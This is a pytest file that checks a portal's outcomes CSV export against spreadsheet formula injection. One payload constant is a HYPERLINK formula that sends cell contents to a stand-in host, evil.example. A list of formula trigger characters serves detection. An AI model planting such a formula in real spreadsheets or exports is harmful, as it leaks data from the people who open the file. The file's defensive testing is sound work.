"""Issue 12 finding 3: no CSV cell a spreadsheet would run as a formula, and no request
value echoed into a CSV."""

import csv
import io

from portal.models import Organisation

from .checkin_factory import checkin_form, hired
from .proposal_factory import client_for, post_form

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_an_organisation_named_as_a_formula_reaches_the_csv_as_text(app, db, make_user):
    w, proposal = hired(app, db, make_user, days_ago=100)
    with app.app_context():
        organisation = db.get(Organisation, w.employer.organisation_id)
        organisation.name = FORMULA
        db.add(organisation)
        db.commit()
    url = f"/checkins/hire/{proposal.id}/3"
    assert post_form(client_for(app, w.mentor), url, checkin_form(), page=url).status_code == 302
    coordinator = client_for(app, make_user("coordinator"))
    export = coordinator.get("/outcomes/export.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_query_values_are_not_echoed_into_the_csv(app, make_user):
    coordinator = client_for(app, make_user("coordinator"))
    for name in ("sector", "region", "wise"):
        answer = coordinator.get(f"/outcomes/export.csv?{name}=%3D1%2B2")
        assert answer.status_code == 400 and "=1+2" not in answer.get_data(as_text=True)
    big = coordinator.get("/outcomes/export.csv?wise=" + "9" * 23)
    assert big.status_code == 400
